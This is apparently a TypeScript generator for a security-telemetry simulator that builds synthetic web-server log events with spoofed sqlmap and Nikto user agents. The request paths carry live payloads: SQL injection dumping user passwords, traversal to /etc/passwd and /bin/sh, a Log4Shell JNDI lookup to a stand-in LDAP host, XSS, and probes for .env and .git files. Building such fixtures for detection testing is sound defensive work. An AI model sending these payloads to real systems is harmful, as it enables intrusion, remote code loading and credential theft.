import { eventTypes } from '../../contracts/event-types.ts';
import { type Attack, integer, pick } from './attack.ts';

export const webAttack: Attack = {
  id: 'web-attack',
  title: 'HTTP requests with injection, traversal and probing',
  defaultCount: 30,
  defaultSpacingMs: 400,
  jitter: 0.9,
  step(_index, { target }, random) {
    const [path, status] = pick<readonly [string, number]>(random, [
      ["/products?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--", 500],
      ['/download?file=../../../../etc/passwd', 403],
      ['/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', 400],
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the look-up is the attack
      ['/?x=${jndi:ldap://198.51.100.66:1389/a}', 200],
      ['/search?q=%3Cscript%3Ealert(1)%3C/script%3E', 200],
      ['/.env', 404],
      ['/.git/config', 404],
      ['/wp-login.php', 404],
      ['/phpmyadmin/index.php', 404],
      ['/actuator/gateway/routes', 404],
    ]);
    return {
      eventType: eventTypes.httpRequest,
      source: 'web-server',
      port: 80,
      protocol: 'http',
      payload: {
        method: 'GET',
        path,
        status,
        bytes: integer(random, 150, 4_000),
        user_agent: pick(random, ['sqlmap/1.8.2', 'Mozilla/5.0 zgrab/0.x', 'Nikto/2.5.0', 'curl/7.88.1']),
      },
      context: { category: 'web', host: target, outcome: status < 400 ? 'success' : 'failure' },
    };
  },
};
